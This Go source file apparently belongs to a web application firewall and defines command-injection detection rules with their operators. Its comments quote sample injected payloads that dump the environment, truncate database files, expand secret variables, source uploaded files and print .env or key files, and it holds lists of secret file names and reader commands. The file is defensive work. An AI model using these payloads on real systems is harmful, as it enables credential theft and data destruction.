package waf

import (
	"path"
	"strings"
)

// shellStateRules are rules 210223 and 210224: shell commands after a
// separator that dump the environment or empty a file, which attack 90
// passed (each run on bash) and which rule 210151's expression does not
// read and cannot take (RE2's memory budget for it is spent, "The
// bound"):
//   - 210223 (shellEnvDump): bash's typeset, declare's synonym (the CRS
//     refuses declare -p and -x, not typeset), alone or before its
//     options that print the environment: 127.0.0.1;typeset -x,
//     `typeset -x`, x;typeset -p, and x;typeset alone, which prints
//     every variable; declare alone too, which does the same and which
//     the CRS reads only with an option. After assignments, builtin,
//     command or eval, and with --, redirections and unset variables
//     read over (x;a=1 typeset 2>&1, x;typeset $u). A declaration
//     (x=1; typeset -i x) passes.
//   - 210224 (shellTruncate): truncate with an option
//     (127.0.0.1;truncate -s0 victim.sqlite, /usr/bin/truncate \-s0 f)
//     and a redirection that empties a file with no command before it,
//     or : (x;> db.sqlite, x;:>victim.sqlite, x;10>db.sqlite,
//     x;{fd}>db.sqlite, x;>"db".sqlite): rm, shred and mv are refused,
//     these were not.
//
// Both read after each separator rule 210151 reads (; | & a backtick, a
// line break, $() the command word as bash runs it, its letters with
// what bash removes between them taken out (quotes, backslashes, $@, $1,
// $”, ${x}, $(), `true`; shellRunWord), in a window of shellStateWindow
// bytes, and what must follow it in a window as bounded: a value costs a
// bounded read of each separator's window and no more. Prose keeps
// passing as it does for 210151's words ("bring it; cat lovers", "party;
// bash at 8"): typeset before a word ("Q&A; typeset is a printing term",
// "fonts; typeset beautifully"), truncate before a word ("x; truncate the
// list"), a '>' before what names no file ("a; > b", "see below; > 5
// items"), and a ':' after no separator ("ratio 3:>2").
var shellStateRules = `SecRule ` + valueHeaderTargets + ` "@` + shellEnvDumpOp + `" "id:210223,phase:2,block,t:none,t:urlDecodeUni,msg:'Command injection: a separator then typeset or declare printing the environment',tag:'application-multi',tag:'attack-rce',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
SecRule ` + valueHeaderTargets + ` "@` + shellTruncateOp + `" "id:210224,phase:2,block,t:none,t:urlDecodeUni,msg:'Command injection: a separator then a command or a redirection that empties a file',tag:'application-multi',tag:'attack-rce',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
`

const (
	shellEnvDumpOp   = "gatewayShellEnvDump"
	shellTruncateOp  = "gatewayShellTruncate"
	shellSecretVarOp = "gatewayShellSecretVar"
)

func init() {
	registerGoOperator(shellEnvDumpOp, shellEnvDump)
	registerGoOperator(shellTruncateOp, shellTruncate)
	registerGoOperator(shellSecretVarOp, shellSecretVar)
}

// shellSecretVarRule is rule 210228 (attack 94): a secret's environment
// variable as a word of its own, which a shell expands wherever the value
// lands in a command line, no separator needed: 127.0.0.1
// $AWS_SECRET_ACCESS_KEY passed, and PHP's system("ping ".$host) printed
// the secret in ping's error message (unknown host). The CRS refuses
// ${NAME} (932130), not $NAME. Read (shellSecretVar): $NAME (bash, sh;
// upper case only, as environment variables are written: PHP's and Perl's
// $password and $token are code, not the environment; after an even
// number of backslashes, which escape each other: \\$X expands), and
// %NAME% and %NAME:~0,5% (cmd.exe, any case, as cmd reads names; of two
// words or more: a mail merge's %PASSWORD% is a placeholder), where NAME
// is a secret's (shellSecretName). PowerShell's $env:NAME is 210219's, which
// reads it in a statement and passes it in prose ("Save it;
// $env:GITHUB_TOKEN is read by the CLI"). multiMatch reads the value before t:urlDecodeUni too, which would
// decode %DB_PASSWORD%'s %DB into a byte.
var shellSecretVarRule = `SecRule ` + valueHeaderTargets + ` "@` + shellSecretVarOp + `" "id:210228,phase:2,block,t:none,t:urlDecodeUni,multiMatch,msg:'Command injection: a secret environment variable a shell would expand',tag:'application-multi',tag:'attack-rce',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
`

// shellRunFileRule is rule 210230 (attack 95): after a separator, a
// shell that runs a file or echoes what it reads, read by shellRunFile:
//   - . FILE, source FILE and $0 FILE (or $0<FILE, $0 -opt): a file the
//     attacker uploaded (a PNG whose bytes are shell: 127.0.0.1;.
//     uploads/evil.png printed .env and ran id through PHP's system()
//     under dash), or one a shell prints lines of (. ./settings.py);
//   - set -v, set -x (letters combined: set -vx) and set -o verbose or
//     xtrace: the shell then echoes each line it reads (127.0.0.1;set
//     -v;. ./.env 2>&1 printed every secret in .env).
//
// The file counts when no shell script is (runFileSuspect): a data,
// image, document or code file's extension (.png, .txt, .py, .php,
// .json, ...), a path under an upload or temporary directory
// (uploads/, /tmp/, /dev/shm/, /proc/); a .env file is not (set -a;
// source .env; set +a is a how-to; set -v before it is read). Its
// arguments may follow (. uploads/evil.png x). A host before a path
// (source en.wikipedia.org/wiki/Lynx) is a citation's. set counts when
// each of its words is an option (or -o's value: set -v -o noglob,
// set -v +e, set -euxo pipefail) to the command's end. Assignments,
// quoting and builtin, command, eval or exec before the command are
// read as for 210223 (x;X=1 . f, x;'.' f, x;so”urce f). After a
// backtick the command must end at its closing backtick, which must end
// the value or come before a separator (shellWordEnds): Markdown's
// inline code (Run `source venv/bin/activate` first, Add `set -x` to
// debug) is prose. set after a line break counts only after a first
// line that is one word, as an argument is (argumentFirstLine):
// scripts and CI files hold set -x lines. "x; . is the current
// directory", "Q&A; source files are here", "Pricing; $0 setup fee",
// "Tip; set -x prints each command" and "nvm install 18; source
// ~/.bashrc" pass.
var shellRunFileRule = `SecRule ` + valueHeaderTargets + ` "@` + shellRunFileOp + `" "id:210230,phase:2,block,t:none,t:urlDecodeUni,multiMatch,msg:'Command injection: a separator then a shell that runs a file or echoes what it reads',tag:'application-multi',tag:'attack-rce',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
`

const shellRunFileOp = "gatewayShellRunFile"

func init() { registerGoOperator(shellRunFileOp, shellRunFile) }

// runFileRunners run . and source as the next word (builtin, command,
// eval, exec).
var runFileRunners = []string{"builtin", "command", "eval", "exec", "su"}

// shellRunFile is rule 210230's operator (see shellRunFileRule); each
// separator costs a read of shellStateWindow bytes at most.
func shellRunFile(v string) bool {
	argLine := argumentFirstLine(v) // one read of the first line
	return eachShellCommand(v, func(i, k int) bool {
		if k >= len(v) {
			return false
		}
		limit := min(len(v), k+shellStateWindow)
		strict := v[i] == '`'
		newline := v[i] == '\n'
		j := runFileCommandStart(v, k, limit)
		// . quoted or escaped ('.', ".", \.), source (its letters as bash
		// reads them), $0
		dot := 0
		switch {
		case j < limit && v[j] == '.':
			dot = 1
		case j+2 < limit && (v[j] == '\'' || v[j] == '"') && v[j+1] == '.' && v[j+2] == v[j]:
			dot = 3
		case j+1 < limit && v[j] == '\\' && v[j+1] == '.':
			dot = 2
		}
		if dot > 0 && j+dot < limit && (v[j+dot] == ' ' || v[j+dot] == '\t') {
			return runFileArgument(v, skipBlanks(v, j+dot), limit, strict)
		}
		if m, ok := selfShellEnd(v, j); ok {
			if m < len(v) && v[m] == '<' {
				return !strict || shellWordEnds(v, min(len(v), m+1))
			}
			n := skipBlanks(v, m)
			if n == m || n >= len(v) {
				return false
			}
			if n+2 < len(v) && v[n:n+2] == "--" && (v[n+2] == ' ' || v[n+2] == '\t') {
				n = skipBlanks(v, n+2)
			}
			if v[n] == '<' || v[n] == '-' && n+1 < len(v) && asciiLetter(v[n+1]) && !strict {
				return true
			}
			return runFileArgument(v, n, limit, strict)
		}
		var a [16]byte
		w, e := shellCommandWord(v, k, runFileRunners, false, a[:0])
		switch string(w) {
		case "source":
			if f := skipBlanks(v, e); f > e {
				return runFileArgument(v, f, limit, strict)
			}
			return false
		case "set":
			if newline && !argLine {
				return false
			}
			return setEchoes(v, e, limit, strict)
		}
		return false
	})
}

// runFileCommandStart: at v[k:limit], the index after assignments and
// runFileRunners with their blanks (x;X=1 . f, x;eval . f).
func runFileCommandStart(v string, k, limit int) int {
	j := k
	for n := 0; n < 8 && j < limit; n++ {
		if e := shellAssignmentEnd(v, j, limit); e > j {
			if m := skipBlanks(v, e); m > e {
				j = m
				continue
			}
			return j
		}
		var a [16]byte
		w, e := shellRunWord(v, j, a[:0])
		runner := false
		for _, r := range runFileRunners {
			runner = runner || string(w) == r
		}
		if m := skipBlanks(v, e); runner && m > e {
			j = m
			continue
		}
		return j
	}
	return j
}

// selfShellEnd: at v[j:] the shell's own name, $0, ${0} or "$0" (quotes
// after it read over: $0""); end is after it.
func selfShellEnd(v string, j int) (end int, ok bool) {
	for _, self := range [...]string{"$0", "${0}", `"$0"`} {
		if strings.HasPrefix(v[j:], self) {
			e := j + len(self)
			for e+1 < len(v) && (v[e:e+2] == `""` || v[e:e+2] == "''") {
				e += 2
			}
			return e, true
		}
	}
	return j, false
}

// setEchoes: at v[e:], after set, options to the command's end of which
// one echoes what the shell reads (-v, -x, letters combined, -o verbose,
// -o xtrace); -o and +o take the next word.
func setEchoes(v string, e, limit int, strict bool) bool {
	echoes := false
	for n := 0; n < 8; n++ {
		f := skipBlanks(v, e)
		if f == len(v) || f > e && strings.IndexByte(";&|\r\n`#)<>", v[f]) >= 0 || f == e && n > 0 {
			break
		}
		if f >= limit || f == e || v[f] != '-' && v[f] != '+' {
			return false
		}
		e = f + 1
		for e < limit && asciiLetter(v[e]) {
			e++
		}
		opt := v[f+1 : e]
		if opt == "" || e < len(v) && !shellArgEnd(v[e]) && v[e] != '<' && v[e] != '>' {
			return false
		}
		if v[f] == '-' && strings.ContainsAny(opt, "vx") && opt[len(opt)-1] != 'o' {
			echoes = true
		}
		if opt[len(opt)-1] == 'o' {
			// -o NAME (-euxo pipefail: x counts as well)
			if v[f] == '-' && strings.ContainsAny(opt[:len(opt)-1], "vx") {
				echoes = true
			}
			g := skipBlanks(v, e)
			h := g
			for h < limit && asciiLetter(v[h]) {
				h++
			}
			if h == g {
				return false
			}
			if v[f] == '-' && (v[g:h] == "verbose" || v[g:h] == "xtrace") {
				echoes = true
			}
			e = h
		}
	}
	if !echoes {
		return false
	}
	if strict {
		return shellWordEnds(v, e)
	}
	return shellArgumentEnds(v, e)
}

// argumentFirstLine: the value's first line is one word that an
// argument could be (a host, a number, a name: 127.0.0.1\nset -v), so
// its line breaks separate commands. A script's or a CI file's lines
// (set -x in "steps:\n  - run: |\n      set -x") come after a first line
// that is a key, a shebang or holds blanks: there a line break is no
// separator for set.
func argumentFirstLine(v string) bool {
	e := strings.IndexByte(v, '\n')
	if e < 0 {
		return false
	}
	w := strings.TrimRight(v[:e], " \t\r")
	if w == "" || w[len(w)-1] == ':' {
		return false
	}
	for i := 0; i < len(w); i++ {
		if !identByte(w[i], ".-:@/%+=,") {
			return false
		}
	}
	return true
}

// runFileArgument: at v[f:limit] a file no shell script is
// (runFileSuspect), its arguments perhaps after it; after a backtick
// (strict) the command must end after it (shellWordEnds).
func runFileArgument(v string, f, limit int, strict bool) bool {
	e := f
	for e < limit && !shellArgEnd(v[e]) && v[e] != '<' && v[e] != '>' {
		e++
	}
	if e-f < 2 || e >= limit && e < len(v) {
		return false
	}
	w := v[f:e]
	if len(w) > 2 && (w[0] == '\'' || w[0] == '"') && w[len(w)-1] == w[0] {
		w = w[1 : len(w)-1]
	}
	if !runFileSuspect(w) {
		return false
	}
	return !strict || shellWordEnds(v, e)
}

// runFileExtensions are the extensions of files no shell script is: data,
// images, documents, archives, other languages' code, keys.
var runFileExtensions = map[string]bool{"png": true, "jpg": true, "jpeg": true, "gif": true, "webp": true, "bmp": true, "ico": true,
	"svg": true, "tif": true, "tiff": true, "heic": true, "avif": true, "pdf": true, "txt": true, "csv": true, "tsv": true, "json": true,
	"xml": true, "yml": true, "yaml": true, "toml": true, "log": true, "dat": true, "bin": true, "tmp": true, "zip": true, "gz": true,
	"tar": true, "tgz": true, "doc": true, "docx": true, "xls": true, "xlsx": true, "ppt": true, "pptx": true, "odt": true,
	"mp3": true, "mp4": true, "wav": true, "avi": true, "mov": true, "webm": true, "py": true, "php": true, "rb": true, "js": true,
	"ts": true, "pl": true, "java": true, "go": true, "ini": true, "sqlite": true, "sqlite3": true, "db": true, "sql": true,
	"key": true, "pem": true, "crt": true, "html": true, "htm": true, "md": true, "phtml": true, "jsp": true, "asp": true,
	"aspx": true, "cgi": true, "properties": true, "cfg": true}

// runFileDirs are the directories whose files an attacker writes or the
// kernel makes.
var runFileDirs = []string{"upload", "/tmp/", "/var/tmp/", "/dev/shm/", "/proc/", "/dev/fd/", "/dev/stdin", "tmp/", "media/",
	"attachments/", "files/"}

// runFileSuspect: the file's name is no shell script's (see
// shellRunFileRule).
func runFileSuspect(w string) bool {
	var b [128]byte
	if len(w) > len(b) {
		return false
	}
	l := string(lowerASCII(b[:0], w))
	// a host before a path: a citation's (en.wikipedia.org/wiki/x)
	if s := strings.IndexByte(l, '/'); s > 0 && l[0] != '.' && l[0] != '~' && strings.IndexByte(l[:s], '.') >= 0 {
		return false
	}
	for _, d := range runFileDirs {
		if strings.Contains(l, d) {
			return true
		}
	}
	base := l[strings.LastIndexByte(l, '/')+1:]
	d := strings.LastIndexByte(base, '.')
	return d > 0 && runFileExtensions[base[d+1:]]
}

// shellArgumentEnds: the command's word that ends at v[e] is its last:
// blanks then the value's end, a separator (; & | a line break, a
// backtick, #, a closing bracket) or a redirection (2>&1, >out, <in).
func shellArgumentEnds(v string, e int) bool {
	j := skipBlanks(v, e)
	if j == len(v) || strings.IndexByte(";&|\r\n`#)<>", v[j]) >= 0 {
		return true
	}
	for j < len(v) && v[j] >= '0' && v[j] <= '9' {
		j++
	}
	return j > e && j < len(v) && (v[j] == '>' || v[j] == '<')
}

// shellReadSecretRule is rule 210232 (attack 96): after a separator, any
// command whose arguments name a secret's file of rule 210170's list
// (.env, db.sqlite3, id_rsa, config/master.key, /run/secrets/...): the
// readers the CRS and rule 210151 name (cat, head, sed, ...) are refused
// already, but coreutils hold many more that print a file (nl, cut -b1-,
// awk 1, pr, tr a a<, dd if=, envsubst<, tsort, rev, od -c, tar c, zip
// -, md5sum ...): 127.0.0.1;nl .env printed every secret through PHP's
// system() under dash. Read (shellReadSecret): the command word as
// 210227 reads it (after assignments, runners and a path), then up to
// six arguments, each read as bash unquotes it ('.env', ".env"), after
// a < (and a descriptor's digits), an option's = (if=.env,
// --file=.env) or an option; a secret's file among them (secretPathRx,
// as 210170 reads a value) counts, and so does a glob of every file (*)
// as the last argument (nl * printed config.php's password). A word of
// prose before the file ends the reading ("x; copy .env.example to
// .env", "Q&A; put it in .env" pass), as does a command word of prose
// ("Steps; the .env file"). After a backtick the command must end at its
// closing backtick, which ends the value or comes before a separator
// (inline code), and after a line break only after a first line that is
// one word, as an argument is (argumentFirstLine: a CI file's "- run:
// cp .env.example .env" is a step).
var shellReadSecretRule = `SecRule ` + valueHeaderTargets + ` "@` + shellReadSecretOp + `" "id:210232,phase:2,block,t:none,t:urlDecodeUni,msg:'Command injection: a separator then a command that reads a secret file',tag:'application-multi',tag:'attack-rce',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
`

const shellReadSecretOp = "gatewayShellReadSecret"

func init() { registerGoOperator(shellReadSecretOp, shellReadSecret) }

// shellReadSecret is rule 210232's operator (see shellReadSecretRule).
// Arguments end at the next separator, so each byte is read for one
// command only (within shellReadWindow bytes of its separator).
func shellReadSecret(v string) bool {
	argLine := argumentFirstLine(v) // one read of the first line
	return eachShellCommand(v, func(i, k int) bool {
		if k >= len(v) {
			return false
		}
		if v[i] == '\n' && !argLine {
			return false
		}
		strict := v[i] == '`'
		limit := min(len(v), k+shellReadWindow)
		var a [16]byte
		w, e := shellCommandWord(v, k, toolRunners, true, a[:0])
		reader := false
		switch {
		case e > k:
			if toolProse[string(w)] || secretKeepers[string(w)] {
				return false
			}
			reader = fileReaders[string(w)]
		case v[k] == '$':
			// a command word made at run time ($a, $(echo nl), ${a})
			e = k + 1
			for e < limit && !shellArgEnd(v[e]) {
				if v[e] == '(' {
					n := strings.IndexByte(v[e:limit], ')')
					if n < 0 {
						return false
					}
					e += n
				}
				e++
			}
		default:
			return false
		}
		j := e
		for n := 0; n < 16; n++ {
			f := skipBlanks(v, j)
			if f >= limit || f == j && v[f] != '<' {
				return false
			}
			// < and a descriptor's digits before it (0<.env, <.env, <>.env)
			g := f
			for g < limit && v[g] >= '0' && v[g] <= '9' {
				g++
			}
			if g < limit && v[g] == '<' {
				g++
				if g < limit && v[g] == '>' {
					g++
				}
				f = skipBlanks(v, g)
			}
			j = f
			for j < limit && !shellArgEnd(v[j]) && v[j] != '<' && v[j] != '>' {
				j++
			}
			if j >= limit && j < len(v) || j == f {
				return false
			}
			var b [shellReadWindow]byte
			word := unquoteShellWord(b[:0], v[f:j])
			if x := strings.IndexByte(word, '='); x > 0 && (word[0] == '-' || x <= 4) {
				word = word[x+1:] // --file=.env, if=.env
			} else if word == "" || word[0] == '-' {
				continue // an option
			}
			if word == "*" || strings.HasPrefix(word, "*.") && len(word) < 8 {
				if reader && (!strict || shellWordEnds(v, j)) {
					return true
				}
				continue
			}
			if len(word) > 1 && toolProse[word] {
				return false // a word of prose (not tr's a)
			}
			if templateSecretName(word) || strings.ContainsAny(word, "*?[") && secretGlob(word) {
				return !strict || shellWordEnds(v, j)
			}
		}
		return false
	})
}

// shellReadWindow bounds what 210232 reads after a separator.
const shellReadWindow = 512

// secretKeepers are commands that name a secret's file without printing
// it (a how-to's cp .env.example .env, chmod 600 id_rsa, nano .env,
// echo .env >> .gitignore, git rm --cached .env): 210232 passes them.
var secretKeepers = map[string]bool{"cd": true, "cp": true, "mv": true, "rm": true, "chmod": true, "chown": true, "chgrp": true,
	"touch": true, "mkdir": true, "ln": true, "nano": true, "vim": true, "vi": true, "nvim": true, "emacs": true, "code": true,
	"subl": true, "gedit": true, "git": true, "docker": true, "podman": true, "ssh": true, "ssh-add": true, "ssh-keygen": true,
	"echo": true, "printf": true, "export": true, "set": true, "unset": true, "python": true, "python3": true, "node": true,
	"npm": true, "npx": true, "yarn": true, "pnpm": true, "pip": true, "composer": true, "php": true, "ruby": true, "rails": true,
	"bundle": true, "make": true, "open": true, "direnv": true, "dotenv": true, "heroku": true, "vercel": true, "gh": true,
	"ls": true, "wc": true, "stat": true, "test": true, "file": true, "du": true, "sops": true, "chattr": true, "shred": true,
	"source": true, "eval": true, "from": true, "import": true, "select": true}

// fileReaders print what they read: a glob of every file after one
// (nl *) counts.
var fileReaders = map[string]bool{"nl": true, "cut": true, "awk": true, "gawk": true, "mawk": true, "pr": true, "tr": true,
	"dd": true, "tsort": true, "tar": true, "rev": true, "od": true, "xxd": true, "hexdump": true, "strings": true,
	"sort": true, "uniq": true, "fold": true, "tac": true, "grep": true, "egrep": true, "fgrep": true, "rg": true, "paste": true,
	"join": true, "comm": true, "diff": true, "base32": true, "base64": true, "iconv": true, "expand": true, "unexpand": true,
	"fmt": true, "shuf": true, "column": true, "jq": true, "envsubst": true, "cat": true, "head": true, "tail": true,
	"more": true, "less": true, "sed": true, "perl": true, "xargs": true, "look": true, "split": true, "csplit": true}

// unquoteShellWord appends the word w to buf as bash unquotes it (quotes
// and backslashes removed: .e'n'v, .\env) and returns it.
func unquoteShellWord(buf []byte, w string) string {
	for i := 0; i < len(w) && len(buf) < cap(buf); i++ {
		switch c := w[i]; c {
		case '\'', '"':
		case '\\':
			if i+1 < len(w) {
				i++
				buf = append(buf, w[i])
			}
		default:
			buf = append(buf, c)
		}
	}
	return string(buf)
}

// secretGlobNames are the file names of 210170's relative list a glob
// may stand for (nl .en?, nl .[e]nv, nl .e*).
var secretGlobNames = []string{".env", ".env.local", ".env.production", ".git-credentials", ".pgpass", ".pypirc", ".vault-token",
	"id_rsa", "id_dsa", "id_ecdsa", "id_ed25519", "db.sqlite3", "local_settings.py", "master.key"}

// secretGlob: the glob w (its last segment) matches a secret's file name.
func secretGlob(w string) bool {
	base := w[strings.LastIndexByte(w, '/')+1:]
	if base == "" || base == "*" {
		return false
	}
	for _, n := range secretGlobNames {
		if ok, err := path.Match(base, n); err == nil && ok {
			return true
		}
	}
	return false
}

// shellSecretVar is rule 210228's operator (see shellSecretVarRule). It
// reads each $ and % once, and each name once: linear in the value.
func shellSecretVar(v string) bool {
	for i := 0; i < len(v); i++ {
		c := v[i]
		if c != '$' && c != '%' {
			continue
		}
		j := i + 1
		e := j
		upper := true
		for e < len(v) && identByte(v[e], "") {
			if v[e] >= 'a' && v[e] <= 'z' {
				upper = false
			}
			e++
		}
		if e == j || v[j] >= '0' && v[j] <= '9' {
			continue
		}
		name := v[j:e]
		// backslashes before the $: an odd number escapes it (\$X), an
		// even one is escaped backslashes (\\$X expands)
		bs := 0
		for bs < i && v[i-1-bs] == '\\' {
			bs++
		}
		switch {
		case c == '$' && upper && bs%2 == 0:
			if shellSecretName(name) {
				return true
			}
		case c == '%' && e < len(v) && (v[e] == '%' || v[e] == ':') && strings.IndexByte(name, '_') >= 0:
			var b [64]byte
			if len(name) <= len(b) && shellSecretName(upperASCII(b[:0], name)) {
				return true
			}
		}
		i = e - 1
	}
	return false
}

// upperASCII appends s to buf with ASCII letters in upper case.
func upperASCII(buf []byte, s string) string {
	n := len(buf)
	buf = append(buf, s...)
	for k := n; k < len(buf); k++ {
		if buf[k] >= 'a' && buf[k] <= 'z' {
			buf[k] -= 'a' - 'A'
		}
	}
	return string(buf[n:])
}

// shellSecretName: an upper-case environment variable's name is a
// secret's, read by its words (split at _, trailing digits dropped): a
// word holding PASSWORD, PASSWD, SECRET or TOKEN (PGPASSWORD,
// GITHUB_TOKEN, CLIENT_SECRET); APIKEY, PASS, PASSPHRASE, DSN, CREDS or
// CREDENTIALS (DB_PASS, SENTRY_DSN); KEY, KEYS or PWD after another word
// (API_KEY, STRIPE_KEY, MYSQL_PWD; $KEY and $PWD alone are not); a
// connection string (CONNSTR, CONNECTION_STRING); a data store's URL or
// URI (DATABASE_URL, REDIS_URL, MONGODB_URI: winDataStores; SMTP_URL,
// SLACK_WEBHOOK_URL: shellURLSecrets). Since attack 95 also PW, CONN,
// JAAS, SASL, HMAC and WEBHOOK (LDAP_BIND_PW, DB_CONN, KAFKA_SASL_JAAS,
// DISCORD_WEBHOOK), a word that ends in PASS (PGPASS, DBPASS; not
// BYPASS, COMPASS) and AUTH as the last of two words or more
// (TWILIO_AUTH; SSH_AUTH_SOCK is a socket); since its review CREDENTIAL,
// JWT, SALT and a word that ends in KEY (ACCESSKEY, PRIVATEKEY; not
// HOTKEY, MONKEY, ...). A name of one word counts only from six letters
// (a stock's cashtag: $CONN, $HMAC) but for PASSWORD, SECRET and TOKEN.
// $PATH, $HOME, $KEYBOARD, $AUTHOR, $BASE_URL and $APP_URL are no
// secrets'.
func shellSecretName(n string) bool {
	if len(n) < 3 || len(n) > 64 {
		return false
	}
	if strings.Contains(n, "PASSWORD") || strings.Contains(n, "PASSWD") || strings.Contains(n, "SECRET") ||
		strings.Contains(n, "TOKEN") || strings.Contains(n, "CONNSTR") || strings.Contains(n, "CONNECTION_STRING") {
		return true
	}
	if strings.IndexByte(n, '_') < 0 && len(n) < 6 {
		return false // a cashtag's length ($CONN, $HMAC: tickers)
	}
	prev := ""
	for w := range strings.SplitSeq(n, "_") {
		w = strings.TrimRight(w, "0123456789")
		switch w {
		case "APIKEY", "PASS", "PASSPHRASE", "DSN", "CREDS", "CREDENTIALS", "CREDENTIAL", "PW", "CONN", "JAAS", "SASL", "HMAC",
			"WEBHOOK", "WEBHOOKS", "JWT", "SALT":
			return true
		case "KEY", "KEYS", "PWD":
			if prev != "" {
				return true
			}
		case "URL", "URI":
			var b [32]byte
			if len(prev) <= len(b) && (winDataStores[string(lowerASCII(b[:0], prev))] || shellURLSecrets[prev]) {
				return true
			}
		case "BYPASS", "COMPASS", "HOTKEY", "MONKEY", "TURKEY", "DONKEY", "JOCKEY", "HOCKEY", "WHISKEY", "PASSKEY":
		default:
			if strings.HasSuffix(w, "PASS") {
				return true // PGPASS, DBPASS, SMTPPASS
			}
			if len(w) > 3 && strings.HasSuffix(w, "KEY") {
				return true // ACCESSKEY, PRIVATEKEY
			}
		}
		if w != "" {
			prev = w
		}
	}
	// AUTH as the last word (TWILIO_AUTH; SSH_AUTH_SOCK is a socket)
	return prev == "AUTH" && strings.Contains(n, "_")
}

// shellURLSecrets are the words before _URL or _URI, besides
// winDataStores, whose URL holds a password or is itself the secret
// (SMTP_URL: smtp://user:password@host; SLACK_WEBHOOK_URL posts to the
// channel).
var shellURLSecrets = map[string]bool{"SMTP": true, "MAIL": true, "MAILER": true, "EMAIL": true, "LDAP": true, "LDAPS": true,
	"SENTRY": true, "WEBHOOK": true, "SLACK": true, "DISCORD": true, "NATS": true, "MQTT": true, "FTP": true, "SFTP": true,
	"IMAP": true, "POP3": true, "SMB": true}

// shellStateWindow is how many bytes after a separator are read for a
// command word (with what bash removes between its letters) and, after
// it, for an option or a file's name.
const shellStateWindow = 128

// shellSeparatorEnd: v[i] starts one of rule 210151's separators (; | &
// a backtick, a line break, or $(); end is the index after it.
func shellSeparatorEnd(v string, i int) (end int, ok bool) {
	switch v[i] {
	case ';', '|', '&', '`', '\n':
		return i + 1, true
	case '$':
		if i+1 < len(v) && v[i+1] == '(' {
			return i + 2, true
		}
	}
	return i, false
}

// shellRunWord reads the command word at v[k:] as bash runs it: its
// letters, digits, _, - and . with what bash removes between them taken
// out (rule 210151's shellGap but cmd.exe's caret: quotes, backslashes, a
// backslash before a line break, $' and $" quoting, $@, $*, $0-$9,
// ${name} and $(word) of a word or nothing, `true` or `:`), into buf (at
// most its capacity: a longer word is none). It reads at most
// shellStateWindow bytes; end is where the word stops, k when it holds
// no letter.
func shellRunWord(v string, k int, buf []byte) (word []byte, end int) {
	limit := min(len(v), k+shellStateWindow)
	j := k
	for j < limit {
		c := v[j]
		switch {
		case identByte(c, "-."):
			if len(buf) == cap(buf) {
				return nil, k
			}
			buf = append(buf, c)
			j++
		case c == '\'' || c == '"':
			j++
		case c == '\\':
			j++
			if j+1 < limit && v[j] == '\r' && v[j+1] == '\n' {
				j += 2
			} else if j < limit && v[j] == '\n' {
				j++
			}
		case c == '$' && j+1 < limit:
			switch d := v[j+1]; {
			case d == '\'' || d == '"' || d == '@' || d == '*' || d >= '0' && d <= '9':
				j += 2
			case d == '(' || d == '{':
				closing := byte(')')
				if d == '{' {
					closing = '}'
				}
				n := j + 2
				for n < limit && (identByte(v[n], "") || v[n] == ':' || v[n] == ' ') {
					n++
				}
				if n >= limit || v[n] != closing {
					return shellWordDone(buf, k, j)
				}
				j = n + 1
			default:
				return shellWordDone(buf, k, j)
			}
		case c == '`' && len(buf) > 0:
			// `true`, `:` between letters (a backtick before the
			// first letter is a separator, read from there)
			n := j + 1
			for n < limit && (v[n] >= 'a' && v[n] <= 'z' || v[n] == ':') {
				n++
			}
			if n >= limit || v[n] != '`' {
				return shellWordDone(buf, k, j)
			}
			j = n + 1
		default:
			return shellWordDone(buf, k, j)
		}
	}
	return shellWordDone(buf, k, j)
}

// shellWordDone is shellRunWord's answer: k for a word with no letter.
func shellWordDone(buf []byte, k, j int) ([]byte, int) {
	if len(buf) == 0 {
		return nil, k
	}
	return buf, j
}

// shellEnvDump is rule 210223's operator (see shellStateRules): after a
// separator and grouping, typeset or declare (shellRunWord), after
// assignments and builtin, command or eval (shellCommandWord), then what
// leaves it printing the environment to the command's end (envDumpArgs).
// "Q&A; typeset is a printing term" and "x=1; typeset -i x" pass.
func shellEnvDump(v string) bool {
	return eachShellCommand(v, func(i, k int) bool {
		var a [16]byte
		w, e := shellCommandWord(v, k, envDumpRunners, false, a[:0])
		if e == k || string(w) != "typeset" && string(w) != "declare" && string(w) != "export" {
			return false
		}
		if envDumpArgs(v, e, v[i], string(w) == "export") {
			return true
		}
		return false
	})
}

// envDumpRunners run typeset, a builtin, as the next word (builtin
// typeset -p, command declare, eval typeset) or in its -c (su -c
// 'typeset -p': suCommandStart); nohup, env and exec run no builtin.
var envDumpRunners = []string{"builtin", "command", "eval", "time", "su"}

// truncateRunners run truncate as the next word (command truncate,
// sudo truncate) or in su's -c (su app -c 'truncate -s0 f').
var truncateRunners = []string{"command", "exec", "eval", "nohup", "env", "sudo", "doas", "time", "su"}

// eachShellCommand calls f at each command the value may start after a
// separator of 210151's (shellSeparatorEnd) and its grouping (the
// separator at v[i], the command at v[k]), until f answers true.
func eachShellCommand(v string, f func(i, k int) bool) bool {
	for i := 0; i < len(v); i++ {
		k, ok := shellSeparatorEnd(v, i)
		if !ok {
			continue
		}
		if f(i, skipShellGrouping(v, k)) {
			return true
		}
	}
	return false
}

// shellCommandWord reads the command word at v[k:] (shellRunWord) after
// what bash reads before it: assignments (a=1, x="a b"), the reserved
// word ! with a blank after it, one of runners with a blank after it
// (time's -p read over after time), and when path, a path before the word
// (/usr/bin/truncate, ./truncate). It reads within shellStateWindow
// bytes of k (and the word's own window); end is k when there is no
// word.
func shellCommandWord(v string, k int, runners []string, path bool, buf []byte) (word []byte, end int) {
	limit := min(len(v), k+shellStateWindow)
	j := k
	for j < limit {
		if v[j] == '!' && j+1 < limit && (v[j+1] == ' ' || v[j+1] == '\t') {
			j = skipBlanks(v, j+1) // x;! typeset -p
			continue
		}
		if n := shellAssignmentEnd(v, j, limit); n > j {
			if m := skipBlanks(v, n); m > n {
				j = m
				continue
			}
			return nil, k
		}
		s := j
		if path && (v[j] == '/' || v[j] == '.' || v[j] == '~') {
